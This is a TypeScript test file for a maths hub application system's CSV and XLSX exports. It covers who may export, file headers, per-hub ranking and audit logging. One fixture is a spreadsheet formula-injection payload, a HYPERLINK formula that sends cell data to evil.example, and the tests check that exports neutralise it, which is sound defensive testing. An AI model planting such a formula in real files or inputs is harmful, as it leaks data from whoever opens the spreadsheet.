// Exports of a cohort's applications with their scores and decisions, through the real app: one
// hub's as CSV and XLSX for its leads and administrators and NCETM, every hub's for NCETM, "not
// found" for everyone else, and the audit row each export leaves (counts, no personal data).
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findCohort } from '../src/domain/programmes/programmes.repository.ts'
import { createTestApp, type TestApp } from './app.ts'
import { NORTHVALE_PRIMARY, OPEN_COHORT } from './application-fixtures.ts'
import { request, signInPersonas, type Client, type PersonaName } from './personas.ts'
import {
  decide,
  personIdOf,
  review,
  riversidePrimary,
  submittedApplication,
  type Submitted,
} from './selection-read-fixtures.ts'

const HUB = 'northvale-maths-hub'
const HUB_CSV = `/hubs/${HUB}/cohorts/${OPEN_COHORT}/export.csv`
const HUB_XLSX = `/hubs/${HUB}/cohorts/${OPEN_COHORT}/export.xlsx`
const NATIONAL_CSV = `/admin/cohorts/${OPEN_COHORT}/export.csv`
const NATIONAL_XLSX = `/admin/cohorts/${OPEN_COHORT}/export.xlsx`
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your result")'

let t: TestApp
let clients: Record<PersonaName, Client>
let ada: Submitted
let injected: Submitted
let notMet: Submitted
let withdrawn: Submitted
let rita: Submitted
let goodTeaching: string

beforeAll(async () => {
  t = await createTestApp() // the clock reads 10am on 22 November 2026, in the open cohort's window
  clients = await signInPersonas(t)
  const db = t.database.db
  const grace = await personIdOf(db, 'grace.lee@northvale.mathshub.example')
  const tom = await personIdOf(db, 'tom.evans@northvale.mathshub.example')
  const ruth = await personIdOf(db, 'ruth.okafor@riverside.mathshub.example')
  goodTeaching = (await findCohort(db, OPEN_COHORT))!.essentialCriteria.find(
    (c) => c.id === 'good-teaching',
  )!.text

  ada = await submittedApplication(t, { name: 'Ada Lovelace' })
  await review(t, ada.id, grace, { desirable: [3, 4], strategic: 4 }) // 11
  await review(t, ada.id, tom, { desirable: [2, 2], strategic: 3 }) // 7
  await decide(t, ada.id, {
    decision: 'selected',
    reasonCode: 'meets-criteria-and-plan',
    feedback: 'A strong application, with clear evidence',
    decidedBy: await personIdOf(db, 'priya.shah@northvale.mathshub.example'),
    releasedAt: new Date('2026-11-21T16:30:00Z'),
    offerState: 'offered',
  })

  injected = await submittedApplication(t, { name: INJECTION })
  await review(t, injected.id, grace, { desirable: [1, 1], strategic: 1 }) // 3
  await decide(t, injected.id, {
    decision: 'reserve',
    reasonCode: 'meets-criteria-place-limit',
    reserveRank: 1,
    shareFeedback: false,
  })

  notMet = await submittedApplication(t, { name: 'Ben Harlow' })
  await review(t, notMet.id, grace, { desirable: [4, 4], strategic: 4, notMet: ['good-teaching'] })
  await review(t, notMet.id, tom, { desirable: [4, 4], strategic: 4, notMet: ['good-teaching'] })

  withdrawn = await submittedApplication(t, { name: 'Wendy Marsh', withdraw: true })

  rita = await submittedApplication(t, { name: 'Rita Banks', urn: await riversidePrimary(db) })
  await review(t, rita.id, ruth, { desirable: [2, 2], strategic: 2 })
})
afterAll(async () => {
  await t?.close()
})

async function get(persona: PersonaName, url: string) {
  return request(t, clients[persona], 'GET', url)
}

/** The CSV's records as objects by header, after checking the byte-order mark. */
function csvRecords(body: Buffer): Record<string, string>[] {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  return parse(body, { bom: true, columns: true }) as Record<string, string>[]
}

async function workbookOf(body: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(new Uint8Array(body).buffer)
  expect(workbook.worksheets).toHaveLength(1)
  return workbook.worksheets[0]!
}

async function auditRows() {
  return t.database.db
    .selectFrom('audit_events')
    .selectAll()
    .where('action', '=', 'selection.export')
    .orderBy('id')
    .execute()
}

describe('a hub’s export as CSV', () => {
  it('downloads as an attachment named after the hub and cohort', async () => {
    const response = await get('hubLead', HUB_CSV)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="northvale-maths-hub-primary-mastery-specialist-13-applications.csv"',
    )
    expect(response.headers['cache-control']).toBe('no-store')
  })

  it('has a header row, CRLF line ends, and every application submitted to the hub, ranked first', async () => {
    const body = (await get('hubLead', HUB_CSV)).rawPayload
    const text = body.toString('utf8')
    const header = text.slice(1, text.indexOf('\r\n'))
    expect(header.split(',').slice(0, 6)).toEqual([
      'Reference',
      'Applicant',
      'Email',
      'School',
      'URN',
      'School phase',
    ])
    expect(header).toContain('Reviewer 2 total')
    const records = csvRecords(body)
    expect(records.map((r) => r.Reference)).toEqual([
      ada.reference,
      injected.reference,
      notMet.reference,
      withdrawn.reference,
    ])
    expect(records.map((r) => r.Rank)).toEqual(['1', '2', '', ''])
    expect(text).not.toContain('Rita Banks')
  })

  it('gives each application its school, scores, reviewers and decision', async () => {
    const db = t.database.db
    const school = await db
      .selectFrom('schools')
      .select(['phase', 'percentage_fsm'])
      .where('urn', '=', NORTHVALE_PRIMARY)
      .executeTakeFirstOrThrow()
    const email = await db
      .selectFrom('people')
      .select('email')
      .where('id', '=', ada.applicantId)
      .executeTakeFirstOrThrow()
    const [first] = csvRecords((await get('hubAdmin', HUB_CSV)).rawPayload)
    expect(first).toMatchObject({
      Reference: ada.reference,
      Applicant: 'Ada Lovelace',
      Email: email.email,
      School: 'Christ Church Primary School',
      URN: String(NORTHVALE_PRIMARY),
      'School phase': school.phase,
      'Percentage FSM': school.percentage_fsm === null ? '' : String(Number(school.percentage_fsm)),
      State: 'Submitted',
      'Submitted at (UK time)': '2026-11-22 10:00',
      'Withdrawn at (UK time)': '',
      'Reviews completed': '2',
      'Median total': '9',
      Spread: '4',
      'Reviewer 1': 'Grace Lee',
      'Reviewer 1 total': '11',
      'Reviewer 2': 'Tom Evans',
      'Reviewer 2 total': '7',
      'Essential criteria not met': '',
      Rank: '1',
      Decision: 'Selected',
      'Reserve order': '',
      'Reason code': 'meets-criteria-and-plan',
      Feedback: 'A strong application, with clear evidence',
      'Feedback shared': 'Yes',
      // 4:30pm UTC on 21 November is 4:30pm GMT.
      'Released at (UK time)': '2026-11-21 16:30',
      Offer: 'Offered',
    })
  })

  it('marks withdrawn applications and names the essential criteria most reviewers found not met', async () => {
    const records = csvRecords((await get('hubLead', HUB_CSV)).rawPayload)
    const byReference = new Map(records.map((r) => [r.Reference, r]))
    expect(byReference.get(notMet.reference)).toMatchObject({
      'Essential criteria not met': goodTeaching,
      'Median total': '12',
      Rank: '',
      Decision: '',
    })
    expect(byReference.get(withdrawn.reference)).toMatchObject({
      State: 'Withdrawn after submission',
      'Withdrawn at (UK time)': '2026-11-22 10:00',
      'Reviews completed': '0',
      'Median total': '',
      Rank: '',
    })
    expect(byReference.get(injected.reference)).toMatchObject({
      Decision: 'Reserve',
      'Reserve order': '1',
      'Feedback shared': 'No',
      Offer: '',
    })
  })

  it('neutralises a cell that a spreadsheet would run as a formula', async () => {
    const body = (await get('hubLead', HUB_CSV)).rawPayload
    const text = body.toString('utf8')
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your result"")"`)
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
    const row = csvRecords(body).find((r) => r.Reference === injected.reference)!
    expect(row.Applicant).toBe(`'${INJECTION}`)
  })
})

describe('a hub’s export as XLSX', () => {
  it('is one sheet with a bold frozen header, the rows, real dates and text kept as text', async () => {
    const response = await get('hubAdmin', HUB_XLSX)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="northvale-maths-hub-primary-mastery-specialist-13-applications.xlsx"',
    )
    const sheet = await workbookOf(response.rawPayload)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    const header = (sheet.getRow(1).values as unknown[]).slice(1)
    expect(header.slice(0, 3)).toEqual(['Reference', 'Applicant', 'Email'])
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true)
    expect(sheet.rowCount).toBe(5)
    const column = (name: string) => header.indexOf(name) + 1
    const first = sheet.getRow(2)
    expect(first.getCell(column('Reference')).value).toBe(ada.reference)
    expect(first.getCell(column('Applicant')).value).toBe('Ada Lovelace')
    expect(first.getCell(column('URN')).value).toBe(NORTHVALE_PRIMARY)
    expect(first.getCell(column('Median total')).value).toBe(9)
    expect(first.getCell(column('Rank')).value).toBe(1)
    // A real date, showing the UK wall-clock time.
    expect(first.getCell(column('Submitted at (UK time)')).value).toEqual(new Date('2026-11-22T10:00:00Z'))
    const name = sheet.getRow(3).getCell(column('Applicant'))
    expect(name.type).toBe(ExcelJS.ValueType.String)
    expect(name.value).toBe(INJECTION)
    expect(sheet.getColumn(column('Applicant')).width).toBeGreaterThan(20)
  })
})

describe('who may export', () => {
  it('lets the hub’s lead and administrator and NCETM export the hub’s round', async () => {
    for (const persona of ['hubLead', 'hubAdmin', 'nationalAdmin', 'nationalViewer'] as const) {
      for (const url of [HUB_CSV, HUB_XLSX]) {
        expect((await get(persona, url)).statusCode, `${persona} ${url}`).toBe(200)
      }
    }
  })

  it('answers 404 to another hub’s lead, the hub’s reviewers, teachers and anyone else', async () => {
    const before = (await auditRows()).length
    for (const persona of [
      'otherHubLead',
      'reviewer',
      'teacher',
      'specialist',
      'headteacher',
      'advocate',
    ] as const) {
      for (const url of [HUB_CSV, HUB_XLSX, NATIONAL_CSV, NATIONAL_XLSX]) {
        const response = await get(persona, url)
        expect(response.statusCode, `${persona} ${url}`).toBe(404)
        expect(response.headers['content-type'], `${persona} ${url}`).toMatch(/^text\/html/)
      }
    }
    expect((await auditRows()).length).toBe(before)
  })

  it('sends a signed-out visitor to sign in', async () => {
    for (const url of [HUB_CSV, HUB_XLSX, NATIONAL_CSV, NATIONAL_XLSX]) {
      const response = await get('anonymous', url)
      expect(response.statusCode, url).toBe(302)
      expect(response.headers.location, url).toBe('/sign-in')
    }
  })

  it('answers 404 for a hub or cohort that does not exist, or an address that is not an id', async () => {
    for (const url of [
      `/hubs/no-such-hub/cohorts/${OPEN_COHORT}/export.csv`,
      `/hubs/${HUB}/cohorts/no-such-cohort/export.csv`,
      `/hubs/${HUB}/cohorts/NOT_AN_ID/export.xlsx`,
      '/admin/cohorts/no-such-cohort/export.csv',
    ]) {
      expect((await get('nationalAdmin', url)).statusCode, url).toBe(404)
    }
  })
})

describe('NCETM’s export across hubs', () => {
  it('has every hub’s applications, with a hub column and each hub ranked on its own', async () => {
    const response = await get('nationalViewer', NATIONAL_CSV)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="all-hubs-primary-mastery-specialist-13-applications.csv"',
    )
    const records = csvRecords(response.rawPayload)
    expect(Object.keys(records[0]!)[0]).toBe('Hub')
    expect(records.map((r) => [r.Hub, r.Reference, r.Rank])).toEqual([
      ['Northvale Maths Hub', ada.reference, '1'],
      ['Northvale Maths Hub', injected.reference, '2'],
      ['Northvale Maths Hub', notMet.reference, ''],
      ['Northvale Maths Hub', withdrawn.reference, ''],
      ['Riverside Maths Hub', rita.reference, '1'],
    ])
    const xlsx = await get('nationalAdmin', NATIONAL_XLSX)
    expect(xlsx.statusCode).toBe(200)
    const sheet = await workbookOf(xlsx.rawPayload)
    expect(sheet.rowCount).toBe(6)
    expect(sheet.getRow(6).getCell(1).value).toBe('Riverside Maths Hub')
  })
})

describe('the audit trail', () => {
  it('records nothing for a HEAD request, which is not answered with a file', async () => {
    const before = (await auditRows()).length
    const head = await request(t, clients.hubLead, 'HEAD', HUB_CSV)
    expect(head.statusCode).toBe(404)
    expect(head.headers['content-disposition']).toBeUndefined()
    expect((await auditRows()).length).toBe(before)
  })

  it('records each export with its counts and no personal data', async () => {
    const before = (await auditRows()).length
    await get('hubLead', HUB_CSV)
    await get('nationalViewer', NATIONAL_XLSX)
    const rows = await auditRows()
    expect(rows.length).toBe(before + 2)
    const [hub, national] = rows.slice(-2)
    expect(hub).toMatchObject({
      actor_person_id: clients.hubLead.personId,
      actor_kind: 'person',
      record_type: 'selection-round',
      record_id: `${HUB}/${OPEN_COHORT}`,
      after: {
        format: 'csv',
        hubId: HUB,
        cohortId: OPEN_COHORT,
        rows: 4,
        withdrawn: 1,
        ranked: 2,
        decisions: 2,
      },
    })
    expect(hub!.request_id).toEqual(expect.any(String))
    expect(national).toMatchObject({
      actor_person_id: clients.nationalViewer.personId,
      record_type: 'cohort',
      record_id: OPEN_COHORT,
      after: { format: 'xlsx', hubId: null, rows: 5, ranked: 3 },
    })
    const written = JSON.stringify(rows)
    for (const personal of ['Ada Lovelace', 'Rita Banks', 'HYPERLINK', '@school.example', 'Christ Church']) {
      expect(written).not.toContain(personal)
    }
  })
})
